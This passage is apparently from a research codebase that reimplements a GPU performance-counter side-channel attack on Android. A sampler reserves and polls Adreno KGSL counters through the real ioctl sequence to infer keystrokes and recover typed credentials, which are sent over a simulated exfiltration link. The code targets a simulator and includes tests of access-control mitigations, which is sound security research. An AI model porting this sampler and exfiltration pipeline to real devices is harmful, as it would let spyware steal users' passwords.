        assert!(irregular > 10, "expected irregular spacing, got {irregular}");
    }

    #[test]
    fn deny_all_policy_stops_the_sampler() {
        let sim = quiet_sim(4);
        sim.device().set_policy(AccessPolicy::DenyAll);
        let err = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap_err();
        assert_eq!(err, kgsl::Errno::Eacces);
    }

    #[test]
    fn rbac_policy_freezes_the_attackers_view() {
        let mut sim = quiet_sim(5);
        sim.device().set_policy(AccessPolicy::role_based([SelinuxDomain::GpuProfiler]));
        sim.tap_key(SimInstant::from_millis(500), Key::Char('q'), SimDuration::from_millis(80));
        let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(1_000)).unwrap();
        assert!(crate::trace::extract_deltas(&trace).is_empty(), "local view must never move");
    }

    #[test]
    fn failed_open_releases_everything_it_acquired() {
        use kgsl::abi::{
            IoctlRequest, KgslPerfcounterGet, KgslPerfcounterReadGroup, IOCTL_KGSL_PERFCOUNTER_GET,
            IOCTL_KGSL_PERFCOUNTER_READ,
        };
        use kgsl::device::COUNTERS_PER_GROUP;

        let sim = quiet_sim(6);
        let dev = sim.device();
        // Exhaust the VPC group (the *last* tracked counters in the
        // reservation loop) with unrelated countables, so `Sampler::open`
        // fails mid-loop after acquiring the LRZ and RAS counters.
        let squatter = dev.open(1, SelinuxDomain::UntrustedApp).unwrap();
        let vpc = adreno_sim::counters::TrackedCounter::VpcPcPrimitives.id().group.kgsl_id();
        let mut taken = 0;
        for countable in 0..=32u32 {
            if [9, 10, 12].contains(&countable) {
                continue; // leave the tracked VPC countables free
            }
            let mut get = KgslPerfcounterGet { groupid: vpc, countable, ..Default::default() };
            dev.ioctl(squatter, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get))
                .unwrap();
            taken += 1;
            if taken == COUNTERS_PER_GROUP {
                break;
            }
        }

        let err = Sampler::open(dev, SamplerConfig::default_8ms()).unwrap_err();
        assert_eq!(err, kgsl::Errno::Ebusy);

        // Nothing may be leaked: the LRZ counters acquired before the
        // failure must be unreserved again (reads of them are EINVAL).
        let probe = dev.open(2, SelinuxDomain::UntrustedApp).unwrap();
        let lrz = adreno_sim::counters::TrackedCounter::LrzVisiblePrimAfterLrz.id();
        let mut reads = [KgslPerfcounterReadGroup::new(lrz.group.kgsl_id(), lrz.countable)];
        assert_eq!(
            dev.ioctl(
                probe,
                IOCTL_KGSL_PERFCOUNTER_READ,
                IoctlRequest::PerfcounterRead(&mut reads)
            )
            .unwrap_err(),
            kgsl::Errno::Einval
        );
    }

    #[test]
    fn transient_faults_are_retried_not_fatal() {
        use kgsl::FaultPlan;

        let mut sim = quiet_sim(7);
        sim.device().install_fault_plan(&FaultPlan::new(1).with_transient_rates(0.15, 0.1));
        let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms())
            .expect("open retries transients within its budget");
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(400)).unwrap();
        let report = s.report();
        assert!(report.transient_errors > 0, "the plan must actually have fired");
        assert!(report.retries_spent > 0);
        // Retries keep coverage near-perfect at these rates.
        assert!(trace.len() >= 45, "expected near-full trace, got {}", trace.len());
        assert!(report.coverage() > 0.9, "coverage {}", report.coverage());
    }

    #[test]
    fn fd_revocation_is_survived_by_reopening() {
        use kgsl::fault::FaultEvent;
        use kgsl::FaultPlan;

        let mut sim = quiet_sim(8);
        let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
        sim.device().install_fault_plan(
            &FaultPlan::new(0).at(SimInstant::from_millis(200), FaultEvent::RevokeFds),
        );
        let before = s.fd();
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(400)).unwrap();
        let report = s.report();
        assert!(report.revocations_seen >= 1);
        assert_eq!(report.fd_reopens, 1, "exactly one reopen cycle");
        assert_ne!(s.fd(), before, "the sampler moved to a fresh fd");
        // At most a couple of slots lost around the revocation.
        assert!(trace.len() >= 48, "expected near-full trace, got {}", trace.len());
    }

    #[test]
    fn slumber_is_survived_by_rereserving() {
        use kgsl::fault::FaultEvent;
        use kgsl::FaultPlan;

        let mut sim = quiet_sim(9);
        let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
        sim.device().install_fault_plan(
            &FaultPlan::new(0).at(SimInstant::from_millis(200), FaultEvent::Slumber),
        );
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(400)).unwrap();
        let report = s.report();
        assert!(report.reservation_losses >= 1);
        assert!(report.reservations_reacquired >= 1);
        assert!(trace.len() >= 48, "expected near-full trace, got {}", trace.len());
    }

    #[test]
    fn zero_retry_budget_restores_fail_stop_skipping() {
        use kgsl::FaultPlan;

        let mut sim = quiet_sim(10);
        let cfg = SamplerConfig { retry: RetryPolicy::none(), ..SamplerConfig::default_8ms() };
        // Open cleanly first: with a zero budget even `open` is fail-stop.
        let mut s = Sampler::open(sim.device(), cfg).unwrap();
        sim.device().install_fault_plan(&FaultPlan::new(2).with_transient_rates(0.3, 0.0));
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(400)).unwrap();
        let report = s.report();
        // Without retries every transient costs a slot.
        assert_eq!(report.retries_spent, 0);
        assert!(report.abandoned > 0);
        assert!(trace.len() < 45, "slots must be lost without retries, got {}", trace.len());
    }

    #[test]
    fn backoff_jitter_is_deterministic_and_bounded() {
        let sim = quiet_sim(12);
        let s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
        let base = SimDuration::from_millis(4);
        assert_eq!(
            s.jittered_backoff(base),
            s.jittered_backoff(base),
            "same state must choose the same delay"
        );
        let chosen = s.jittered_backoff(base);
        assert!(chosen >= base.mul_f64(0.75) && chosen < base.mul_f64(1.25), "delay {chosen}");
        // A different sampler seed lands on a different delay.
        let cfg = SamplerConfig { seed: 99, ..SamplerConfig::default_8ms() };
        let other = Sampler::open(sim.device(), cfg).unwrap();
        assert_ne!(s.jittered_backoff(base), other.jittered_backoff(base));
    }

    #[test]
    fn backoff_schedule_is_capped() {
        // Walk the doubling schedule the way read_resilient does and check
        // the cap binds: 0.5, 1, 2, 4, 4, 4, ... ms.
        let policy = RetryPolicy::default_bounded();
        let mut backoff = policy.initial_backoff;
        let mut seen = Vec::new();
        for _ in 0..6 {
            seen.push(backoff);
            backoff = (backoff * 2).min(policy.max_backoff);
        }
        assert_eq!(
            seen,
            vec![
                SimDuration::from_micros(500),
                SimDuration::from_millis(1),
                SimDuration::from_millis(2),
                SimDuration::from_millis(4),
                SimDuration::from_millis(4),
                SimDuration::from_millis(4),
            ]
        );
    }

    #[test]
    fn same_fault_seed_same_trace() {
        use kgsl::FaultPlan;

        let run = || {
            let mut sim = quiet_sim(11);
            sim.tap_key(SimInstant::from_millis(600), Key::Char('w'), SimDuration::from_millis(90));
            sim.device().install_fault_plan(
                &FaultPlan::new(5)
                    .with_transient_rates(0.1, 0.05)
                    .with_slumber_every(SimDuration::from_millis(700)),
            );
            let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
            let trace = s.sample_until(&mut sim, SimInstant::from_millis(1_000)).unwrap();
            (trace, s.report())
        };
        let (ta, ra) = run();
        let (tb, rb) = run();
        assert_eq!(ra, rb, "reports must be identical");
        assert_eq!(ta.len(), tb.len());
        for (a, b) in ta.iter().zip(tb.iter()) {
            assert_eq!((a.at, a.values), (b.at, b.values));
        }
    }
}
