//! The performance-counter sampler.
//!
//! The attacking application's background service reads the eleven tracked
//! counters through `/dev/kgsl-3d0` every few milliseconds (§4). By default
//! the interval is 8 ms — half the 60 Hz frame interval, so every rendered
//! frame is covered by at least one read.
//!
//! Under CPU contention the service gets scheduled late, so reads jitter
//! and occasionally drop (§7.3, Fig 22a). The jitter model lives here, on
//! the attacker's side — the victim UI is unaffected by CPU load.

use adreno_sim::counters::ALL_TRACKED;
use adreno_sim::time::{SimDuration, SimInstant};
use android_ui::UiSimulation;
use kgsl::abi::{
    IoctlRequest, KgslPerfcounterGet, KgslPerfcounterReadGroup, IOCTL_KGSL_PERFCOUNTER_GET,
    IOCTL_KGSL_PERFCOUNTER_READ,
};
use kgsl::{DeviceResult, KgslDevice, KgslFd, SelinuxDomain};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::trace::Trace;

/// Default reading interval (§4: "equal to or slightly smaller than half of
/// the screen refresh interval" — 8 ms at 60 Hz).
pub const DEFAULT_INTERVAL: SimDuration = SimDuration::from_millis(8);

/// Sampler configuration.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SamplerConfig {
    /// Nominal interval between reads.
    pub interval: SimDuration,
    /// Background CPU utilisation on the victim device, `0.0..=1.0`; drives
    /// scheduling jitter and dropped reads.
    pub cpu_load: f64,
    /// RNG seed for the jitter model.
    pub seed: u64,
}

impl SamplerConfig {
    /// 8 ms reads on an otherwise idle device.
    pub fn default_8ms() -> Self {
        SamplerConfig { interval: DEFAULT_INTERVAL, cpu_load: 0.0, seed: 0 }
    }
}

impl Default for SamplerConfig {
    fn default() -> Self {
        SamplerConfig::default_8ms()
    }
}

/// A sampler bound to one open device-file handle with the eleven counters
/// reserved.
#[derive(Debug)]
pub struct Sampler {
    fd: KgslFd,
    config: SamplerConfig,
    rng: StdRng,
}

/// The pid the attacking app pretends to run as (any unprivileged pid).
const ATTACKER_PID: u32 = 31337;

impl Sampler {
    /// Opens the device file as an unprivileged app and reserves the eleven
    /// Table-1 counters via `IOCTL_KGSL_PERFCOUNTER_GET`.
    ///
    /// # Errors
    ///
    /// Propagates device-file errors — notably `EACCES` when the §9.2
    /// access-control mitigation denies counter reservation.
    pub fn open(device: &KgslDevice, config: SamplerConfig) -> DeviceResult<Self> {
        let fd = device.open(ATTACKER_PID, SelinuxDomain::UntrustedApp)?;
        for c in ALL_TRACKED {
            let id = c.id();
            let mut get = KgslPerfcounterGet {
                groupid: id.group.kgsl_id(),
                countable: id.countable,
                ..Default::default()
            };
            device.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get))?;
        }
        Ok(Sampler { fd, config, rng: StdRng::seed_from_u64(config.seed ^ 0x5a5a) })
    }

    /// The sampler's device-file handle.
    pub fn fd(&self) -> KgslFd {
        self.fd
    }

    /// Performs one block-read of all eleven counters.
    ///
    /// # Errors
    ///
    /// Propagates device errors (`EACCES` under the DenyAll policy, …).
    pub fn read_once(&self, device: &KgslDevice) -> DeviceResult<adreno_sim::CounterSet> {
        let mut reads: Vec<KgslPerfcounterReadGroup> = ALL_TRACKED
            .iter()
            .map(|c| {
                let id = c.id();
                KgslPerfcounterReadGroup::new(id.group.kgsl_id(), id.countable)
            })
            .collect();
        device.ioctl(self.fd, IOCTL_KGSL_PERFCOUNTER_READ, IoctlRequest::PerfcounterRead(&mut reads))?;
        let mut out = adreno_sim::CounterSet::ZERO;
        for (c, r) in ALL_TRACKED.iter().zip(reads.iter()) {
            out[*c] = r.value;
        }
        Ok(out)
    }

    /// Scheduling delay of the next read: a small baseline wobble (timer
    /// slack — even an idle Android schedules a polling service a little
    /// late, which is where mid-draw "split" reads come from) plus an
    /// exponential tail whose mean grows superlinearly with CPU
    /// utilisation, mimicking CFS latency under contention.
    fn jitter(&mut self) -> SimDuration {
        let base = SimDuration::from_nanos(self.rng.gen_range(0..1_200_000));
        let load = self.config.cpu_load;
        if load <= 0.0 {
            return base;
        }
        let mean_ns = self.config.interval.as_nanos() as f64 * load * load * 1.2;
        let u: f64 = self.rng.gen_range(1e-9..1.0);
        base + SimDuration::from_nanos((-u.ln() * mean_ns) as u64)
    }

    /// Whether this read gets skipped entirely (the service missed its
    /// slot); only happens at high CPU load.
    fn dropped(&mut self) -> bool {
        let p = (self.config.cpu_load - 0.5).max(0.0) * 0.5;
        p > 0.0 && self.rng.gen::<f64>() < p
    }

    /// Samples the victim simulation from its current time until `until`,
    /// advancing the simulation between reads. Returns the raw trace.
    ///
    /// # Errors
    ///
    /// Stops and propagates the first device error (e.g. the mitigation
    /// kicked in mid-session).
    pub fn sample_until(&mut self, sim: &mut UiSimulation, until: SimInstant) -> DeviceResult<Trace> {
        let mut trace = Trace::new();
        let device = std::sync::Arc::clone(sim.device());
        let mut next = sim.now();
        while next <= until {
            let at = next + self.jitter();
            let at = if at > until { until } else { at };
            sim.advance_to(at);
            if !self.dropped() {
                let values = self.read_once(&device)?;
                trace.push(at, values);
            }
            next += self.config.interval;
            if at > next {
                // A long stall: resume on the next grid point after `at`.
                let missed = at.saturating_since(next).as_nanos()
                    / self.config.interval.as_nanos().max(1);
                next += self.config.interval * (missed + 1);
            }
        }
        Ok(trace)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adreno_sim::counters::TrackedCounter;
    use android_ui::keyboard::Key;
    use android_ui::sim::SimConfig;
    use kgsl::AccessPolicy;

    fn quiet_sim(seed: u64) -> UiSimulation {
        UiSimulation::new(SimConfig { system_noise_hz: 0.0, ..SimConfig::paper_default(seed) })
    }

    #[test]
    fn sampler_reads_on_the_8ms_grid() {
        let mut sim = quiet_sim(1);
        let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(400)).unwrap();
        assert_eq!(trace.len(), 51, "reads at 0, 8, …, 400 ms");
        for w in trace.samples().windows(2) {
            // Grid spacing ± the baseline timer-slack wobble.
            let gap = (w[1].at - w[0].at).as_micros();
            assert!((6_500..=9_500).contains(&gap), "gap {gap}us off the jittered grid");
        }
    }

    #[test]
    fn idle_windows_show_no_change_and_key_presses_do() {
        let mut sim = quiet_sim(2);
        sim.tap_key(SimInstant::from_millis(600), Key::Char('w'), SimDuration::from_millis(90));
        let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(1_000)).unwrap();
        let deltas = crate::trace::extract_deltas(&trace);
        // Initial render, blinks at 500ms/1000ms, popup, echo, hide.
        assert!(deltas.len() >= 4, "expected several changes, got {}", deltas.len());
        // At least one delta must carry popup-sized primitive counts.
        assert!(deltas.iter().any(|d| d.values[TrackedCounter::VpcPcPrimitives] > 50));
    }

    #[test]
    fn cpu_load_jitters_the_schedule() {
        let mut sim = UiSimulation::new(SimConfig {
            system_noise_hz: 0.0,
            cpu_load: 0.75,
            ..SimConfig::paper_default(3)
        });
        let cfg = SamplerConfig { cpu_load: 0.75, ..SamplerConfig::default_8ms() };
        let mut s = Sampler::open(sim.device(), cfg).unwrap();
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(2_000)).unwrap();
        // Jitter + drops → noticeably fewer than the nominal 251 reads and
        // irregular spacing.
        assert!(trace.len() < 245, "expected drops, got {}", trace.len());
        let irregular = trace
            .samples()
            .windows(2)
            .filter(|w| (w[1].at - w[0].at).as_millis() != 8)
            .count();
        assert!(irregular > 10, "expected irregular spacing, got {irregular}");
    }

    #[test]
    fn deny_all_policy_stops_the_sampler() {
        let sim = quiet_sim(4);
        sim.device().set_policy(AccessPolicy::DenyAll);
        let err = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap_err();
        assert_eq!(err, kgsl::Errno::Eacces);
    }

    #[test]
    fn rbac_policy_freezes_the_attackers_view() {
        let mut sim = quiet_sim(5);
        sim.device().set_policy(AccessPolicy::role_based([SelinuxDomain::GpuProfiler]));
        sim.tap_key(SimInstant::from_millis(500), Key::Char('q'), SimDuration::from_millis(80));
        let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(1_000)).unwrap();
        assert!(crate::trace::extract_deltas(&trace).is_empty(), "local view must never move");
    }
}
