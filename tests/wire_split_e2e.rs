//! Split-session equivalence over a live lossy transport (the `wire`
//! crate's contract).
//!
//! The reliability layer promises *exactly-once, in-order* delivery of the
//! sample stream to the classifier regardless of what the link does to
//! individual datagrams. The consequence under test: the final inferred
//! credential from a split session must match the in-process pipeline for
//! every seeded loss/reorder/duplication/truncation/outage plan — link
//! damage shows up in the [`LinkDegradationReport`], never in the result.

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{SimConfig, UiSimulation};
use gpu_eaves::attack::offline::ModelStore;
use gpu_eaves::attack::registry::Registry;
use gpu_eaves::attack::service::{AttackService, ServiceConfig, ServiceError, SessionResult};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use gpu_eaves::wire::{run_split_session, ExfilConfig, LinkPlan, SplitOutcome};
use rand::rngs::StdRng;
use rand::SeedableRng;

fn single_store() -> ModelStore {
    let cfg = SimConfig::paper_default(0);
    let registry = Registry::default();
    let mut store = ModelStore::new();
    store.add_handle(registry.get_or_train(cfg.device, cfg.keyboard, cfg.app));
    store
}

/// Builds the identically-seeded victim used by both drivers.
fn victim(seed: u64) -> (UiSimulation, SimInstant) {
    let mut sim = UiSimulation::new(SimConfig::paper_default(seed));
    let mut rng = StdRng::seed_from_u64(seed ^ 0x5EED);
    let mut typist = Typist::new(VOLUNTEERS[seed as usize % VOLUNTEERS.len()]);
    let plan = typist.type_text("hunter2pass", SimInstant::from_millis(900), &mut rng);
    let end = plan.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);
    (sim, end)
}

fn run_in_process(store: &ModelStore, seed: u64) -> SessionResult {
    let (mut sim, end) = victim(seed);
    let service = AttackService::new(store.clone(), ServiceConfig::default());
    service.eavesdrop(&mut sim, end).expect("in-process session")
}

fn run_split(store: &ModelStore, seed: u64, plan: &LinkPlan) -> SplitOutcome {
    let (mut sim, end) = victim(seed);
    let service = AttackService::new(store.clone(), ServiceConfig::default());
    run_split_session(&service, &mut sim, end, plan, ExfilConfig::default())
        .expect("split session must complete, not error, under link damage")
}

#[test]
fn fault_free_transport_is_byte_identical_to_in_process() {
    let store = single_store();
    for seed in [80u64, 81] {
        let inproc = run_in_process(&store, seed);
        let outcome = run_split(&store, seed, &LinkPlan::new(seed));
        assert!(
            outcome.result.link.is_clean(),
            "fault-free link must report clean (seed {seed}): {}",
            outcome.result.link
        );
        assert!(outcome.completed, "fault-free handshake must finish (seed {seed})");
        let mut delinked = outcome.result.clone();
        delinked.link = Default::default();
        assert_eq!(delinked, inproc, "fault-free split diverged from in-process (seed {seed})");
        assert_eq!(
            outcome.recovered_over_wire.as_deref(),
            Some(inproc.recovered_text.as_str()),
            "FinAck text must be the recovered credential (seed {seed})"
        );
        assert!(
            !inproc.recovered_text.is_empty(),
            "vacuous equivalence: nothing was recovered (seed {seed})"
        );
    }
}

#[test]
fn every_seeded_lossy_plan_completes_and_matches() {
    let store = single_store();
    let seed = 90u64;
    let inproc = run_in_process(&store, seed);
    assert!(!inproc.recovered_text.is_empty(), "baseline must recover text");

    let horizon = SimDuration::from_secs(8);
    let matrix: Vec<(&str, LinkPlan)> = vec![
        ("loss", LinkPlan::new(7).with_loss(0.25)),
        ("reorder", LinkPlan::new(8).with_reorder(0.4)),
        ("duplication", LinkPlan::new(9).with_duplication(0.3)),
        ("truncation", LinkPlan::new(10).with_truncation(0.25)),
        (
            "outages",
            LinkPlan::new(11)
                .with_outages(SimDuration::from_secs(2), SimDuration::from_millis(400)),
        ),
        ("everything-0.5", LinkPlan::with_intensity(12, 0.5, horizon)),
        ("everything-0.9", LinkPlan::with_intensity(13, 0.9, horizon)),
    ];

    for (name, plan) in &matrix {
        let outcome = run_split(&store, seed, plan);
        // Exactly-once in-order delivery: the analysis half must be
        // oblivious to the link, so the whole result matches modulo the
        // degradation tally.
        let mut delinked = outcome.result.clone();
        delinked.link = Default::default();
        assert_eq!(
            delinked, inproc,
            "plan '{name}' changed the inferred result — the reliability layer leaked"
        );
        assert!(
            !outcome.result.link.is_clean(),
            "plan '{name}' was supposed to damage the link but the report is clean: {}",
            outcome.result.link
        );
        assert!(
            outcome.result.link.frames_sent > 0 && outcome.result.link.bytes_acked > 0,
            "plan '{name}' report looks unpopulated: {}",
            outcome.result.link
        );
    }
}

#[test]
fn pinning_a_digest_the_server_lacks_is_a_typed_error() {
    use gpu_eaves::attack::sampler::SamplerReport;
    use gpu_eaves::wire::{ClassifierServer, ExfilClient, SimTransport};

    let store = single_store();
    let service = AttackService::new(store, ServiceConfig::default());

    // Pin a digest built from a model the server never loaded: same device,
    // different target app → different canonical encoding, different address.
    let foreign = {
        let cfg = SimConfig::paper_default(0);
        let registry = Registry::default();
        registry.get_or_train(cfg.device, cfg.keyboard, gpu_eaves::android_ui::TargetApp::Gedit)
    };
    assert!(
        service.store().find_digest(&foreign.digest()).is_none(),
        "test premise: the server store must not hold the foreign digest"
    );

    let plan = LinkPlan::new(99);
    let mut transport = SimTransport::new(&plan);
    let mut client = ExfilClient::with_model(ExfilConfig::default(), 99, foreign.digest());
    let mut server = ClassifierServer::new(&service);

    let mut now = SimInstant::from_millis(1);
    client.connect(&mut transport, now);
    client.finish_sampling(&SamplerReport::default());
    for _ in 0..200 {
        if client.done() {
            break;
        }
        now += SimDuration::from_millis(1);
        client.pump(&mut transport, now);
        server.pump(&mut transport, now);
    }

    assert!(client.done(), "the Fin handshake must terminate even on a model mismatch");
    assert_eq!(client.recovered(), Some(""), "a mismatched session recovers nothing");
    match server.result() {
        Some(Err(ServiceError::ModelDigestMismatch(digest))) => {
            assert_eq!(*digest, foreign.digest(), "the error must name the requested digest");
        }
        other => panic!("expected ModelDigestMismatch, got {other:?}"),
    }
}

#[test]
fn same_link_plan_replays_identically() {
    let store = single_store();
    let plan = LinkPlan::with_intensity(21, 0.7, SimDuration::from_secs(8));
    let a = run_split(&store, 91, &plan);
    let b = run_split(&store, 91, &plan);
    assert_eq!(a.result, b.result, "seeded link plans must replay bit for bit");
    assert_eq!(a.transport, b.transport);
    assert_eq!(a.completed, b.completed);
    assert_eq!(a.key_arrivals, b.key_arrivals);
}
