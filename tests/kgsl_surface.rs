//! Integration tests of the device-file surface as the attack uses it —
//! the §4 access path plus hostile/degenerate usage.

use adreno_sim::time::SimInstant;
use gpu_eaves::android_ui::{SimConfig, UiSimulation};
use gpu_eaves::kgsl::abi::*;
use gpu_eaves::kgsl::{Errno, SelinuxDomain};

#[test]
fn the_paper_fig10_sequence_works_verbatim() {
    // Fig 10: open, PERFCOUNTER_GET for LRZ countable 14, then blockread.
    let sim = UiSimulation::new(SimConfig::paper_default(0));
    let dev = sim.device();
    let fd = dev.open(1000, SelinuxDomain::UntrustedApp).unwrap();

    let mut get = KgslPerfcounterGet {
        groupid: KGSL_PERFCOUNTER_GROUP_LRZ,
        countable: 14,
        ..Default::default()
    };
    dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get)).unwrap();
    assert!(get.offset > 0, "driver assigns register offsets");

    let mut reads = [KgslPerfcounterReadGroup::new(KGSL_PERFCOUNTER_GROUP_LRZ, 14)];
    dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_READ, IoctlRequest::PerfcounterRead(&mut reads)).unwrap();
    assert_eq!(reads[0].value, 0, "nothing rendered yet");
}

#[test]
fn blockread_of_many_counters_is_atomic_per_call() {
    let mut sim = UiSimulation::new(SimConfig::paper_default(1));
    let dev = std::sync::Arc::clone(sim.device());
    let fd = dev.open(1, SelinuxDomain::UntrustedApp).unwrap();
    for c in adreno_sim::counters::ALL_TRACKED {
        let id = c.id();
        let mut get = KgslPerfcounterGet {
            groupid: id.group.kgsl_id(),
            countable: id.countable,
            ..Default::default()
        };
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get)).unwrap();
    }
    sim.advance_to(SimInstant::from_millis(500));
    let mut reads: Vec<KgslPerfcounterReadGroup> = adreno_sim::counters::ALL_TRACKED
        .iter()
        .map(|c| KgslPerfcounterReadGroup::new(c.id().group.kgsl_id(), c.id().countable))
        .collect();
    dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_READ, IoctlRequest::PerfcounterRead(&mut reads)).unwrap();
    assert!(reads.iter().any(|r| r.value > 0), "the initial render must be visible");
}

#[test]
fn hostile_requests_get_clean_errors() {
    let sim = UiSimulation::new(SimConfig::paper_default(2));
    let dev = sim.device();
    let fd = dev.open(666, SelinuxDomain::UntrustedApp).unwrap();

    // Unknown group.
    let mut get = KgslPerfcounterGet { groupid: 0xFF, countable: 1, ..Default::default() };
    assert_eq!(
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get)),
        Err(Errno::Einval)
    );
    // Countable out of range.
    let mut get = KgslPerfcounterGet {
        groupid: KGSL_PERFCOUNTER_GROUP_RAS,
        countable: 10_000,
        ..Default::default()
    };
    assert_eq!(
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get)),
        Err(Errno::Einval)
    );
    // Reading without a reservation.
    let mut reads = [KgslPerfcounterReadGroup::new(KGSL_PERFCOUNTER_GROUP_VPC, 9)];
    assert_eq!(
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_READ, IoctlRequest::PerfcounterRead(&mut reads)),
        Err(Errno::Einval)
    );
    // Mismatched request code / argument.
    let mut get = KgslPerfcounterGet::default();
    assert_eq!(
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_READ, IoctlRequest::PerfcounterGet(&mut get)),
        Err(Errno::Einval)
    );
    // Closed fd.
    dev.close(fd).unwrap();
    let mut reads = [KgslPerfcounterReadGroup::new(KGSL_PERFCOUNTER_GROUP_VPC, 9)];
    assert_eq!(
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_READ, IoctlRequest::PerfcounterRead(&mut reads)),
        Err(Errno::Ebadf)
    );
}

#[test]
fn two_processes_share_the_global_counters() {
    // The vulnerability in one sentence: *any* process sees *all* GPU work.
    let mut sim = UiSimulation::new(SimConfig::paper_default(3));
    let dev = std::sync::Arc::clone(sim.device());
    let spy = dev.open(1111, SelinuxDomain::UntrustedApp).unwrap();
    let other = dev.open(2222, SelinuxDomain::PlatformApp).unwrap();
    for fd in [spy, other] {
        let mut get = KgslPerfcounterGet {
            groupid: KGSL_PERFCOUNTER_GROUP_RAS,
            countable: 5,
            ..Default::default()
        };
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get)).unwrap();
    }
    sim.advance_to(SimInstant::from_millis(300));
    let read = |fd| {
        let mut reads = [KgslPerfcounterReadGroup::new(KGSL_PERFCOUNTER_GROUP_RAS, 5)];
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_READ, IoctlRequest::PerfcounterRead(&mut reads))
            .unwrap();
        reads[0].value
    };
    let a = read(spy);
    let b = read(other);
    assert_eq!(a, b, "both processes observe the same global values");
    assert!(a > 0);
}

#[test]
fn busy_percentage_endpoint_matches_load() {
    let mut sim = UiSimulation::new(SimConfig {
        gpu_load: 0.5,
        system_noise_hz: 0.0,
        ..SimConfig::paper_default(4)
    });
    sim.advance_to(SimInstant::from_millis(1_000));
    let pct = sim.device().gpu_busy_percentage();
    assert!((30..=75).contains(&pct), "expected ~50% busy, got {pct}%");
}
