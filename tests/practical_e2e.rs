//! Practical-usage integration (§8): corrections, app switches and
//! notification handling through the full pipeline.

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{SimConfig, TimedEvent, UiEvent, UiSimulation};
use gpu_eaves::attack::correction::CorrectionEvent;
use gpu_eaves::attack::offline::{ModelStore, Trainer, TrainerConfig};
use gpu_eaves::attack::service::{AttackService, ServiceConfig};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn service() -> AttackService {
    let cfg = SimConfig::paper_default(0);
    let model = Trainer::new(TrainerConfig::default()).train(cfg.device, cfg.keyboard, cfg.app);
    let mut store = ModelStore::new();
    store.add(model);
    AttackService::new(store, ServiceConfig::default())
}

fn quiet(seed: u64) -> SimConfig {
    SimConfig { system_noise_hz: 0.0, ..SimConfig::paper_default(seed) }
}

#[test]
fn backspace_corrections_are_excluded_from_the_result() {
    // §5.3: the victim types "pasX", deletes the typo, finishes "pass".
    let mut sim = UiSimulation::new(quiet(1));
    let mut rng = StdRng::seed_from_u64(1);
    let mut typist = Typist::new(VOLUNTEERS[1]);
    let mut plan = typist.type_text("pasx", SimInstant::from_millis(900), &mut rng);
    let p2 = typist.backspaces(1, plan.end, &mut rng);
    let after = p2.end;
    plan.extend(p2);
    let p3 = typist.type_text("s", after, &mut rng);
    let end = p3.end + SimDuration::from_millis(800);
    plan.extend(p3);
    sim.queue_all(plan.events);

    let result = service().eavesdrop(&mut sim, end).expect("stock policy");
    assert_eq!(sim.truth().final_text(), "pass");
    assert_eq!(result.recovered_text, "pass", "the deleted 'x' must not appear");
    assert!(result.corrections.iter().any(|e| matches!(e, CorrectionEvent::CharDeleted(_))));
}

#[test]
fn app_switch_interruption_is_filtered_out() {
    // §5.2: typing, a hop to another app (whose activity must not leak into
    // the result), then more typing.
    let mut sim = UiSimulation::new(quiet(2));
    let mut rng = StdRng::seed_from_u64(2);
    let mut typist = Typist::new(VOLUNTEERS[0]);
    let plan = typist.type_text("abc", SimInstant::from_millis(900), &mut rng);
    let t1 = plan.end + SimDuration::from_millis(300);
    sim.queue_all(plan.events);
    sim.queue(TimedEvent::new(t1, UiEvent::SwitchAway));
    for k in 0..4u64 {
        sim.queue(TimedEvent::new(
            t1 + SimDuration::from_millis(400 + k * 350),
            UiEvent::OtherAppActivity,
        ));
    }
    let t2 = t1 + SimDuration::from_millis(2_200);
    sim.queue(TimedEvent::new(t2, UiEvent::SwitchBack));
